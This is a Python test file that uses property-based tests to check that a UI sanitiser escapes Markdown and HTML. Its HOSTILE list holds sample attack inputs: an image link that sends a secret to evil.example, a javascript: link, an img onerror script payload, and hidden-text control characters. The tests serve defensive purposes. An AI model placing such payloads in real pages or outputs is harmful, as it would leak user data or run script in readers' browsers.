"""No construct of Markdown or HTML survives the way into a page."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from masis.ui.safe_text import safe_html, safe_label, safe_md

HOSTILE = (
    "![pixel](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "$4.2bn, then $3bn$",
    ":red[alarm]",
    ":material/delete:",
    ":smile: and :100:",
    "```mermaid\ngraph TD\n```",
    "see https://evil.example/a and www.evil.example",
    "write to someone@evil.example",
    "<https://evil.example>",
    "# heading",
    "- item\n1. item",
    "| a | b |\n|---|---|",
    "[^1]: note",
    "~~gone~~ **bold** _it_ `code`",
    "    indented code",
    "a &lt;b&gt; &amp;",
)
_UNESCAPED = re.compile(r"(?<!\\)(?:\\\\)*[!\[\]<>$`*_#|~(){}&]")
_pieces = st.lists(st.one_of(st.sampled_from(HOSTILE), st.text()), max_size=5).map("".join)


@given(_pieces)
def test_every_mark_of_markdown_is_escaped(text: str) -> None:
    assert not _UNESCAPED.search(safe_md(text))


@given(_pieces)
def test_no_directive_or_address_is_left_even_after_unescaping(text: str) -> None:
    shown = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", safe_md(text))
    assert not re.search(r":[\w+\-/]", shown)
    assert not re.search(r"(?i)https?://|\bwww\.", shown)
    assert not re.search(r"@[\w.-]", shown)


@given(_pieces)
def test_no_line_starts_a_code_block(text: str) -> None:
    assert not any(line.startswith((" ", "\t")) for line in safe_md(text).split("\n"))


@given(_pieces)
def test_html_holds_no_tag_and_no_quote(text: str) -> None:
    assert not set(safe_html(text)) & set("<>\"'")


@given(st.text(alphabet=st.characters(categories=["L", "N", "Zs"])))
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert safe_md(text) == text.strip() if "\n" not in text else True


@pytest.mark.parametrize("mark", ["\u202e", "\u2066", "\x07", "\x00"])
def test_marks_that_hide_or_turn_text_are_dropped(mark: str) -> None:
    assert safe_html(f"a{mark}b") == "ab"
    assert safe_md(f"a{mark}b") == "ab"


def test_a_label_is_one_line() -> None:
    assert "\n" not in safe_label("first\nsecond")
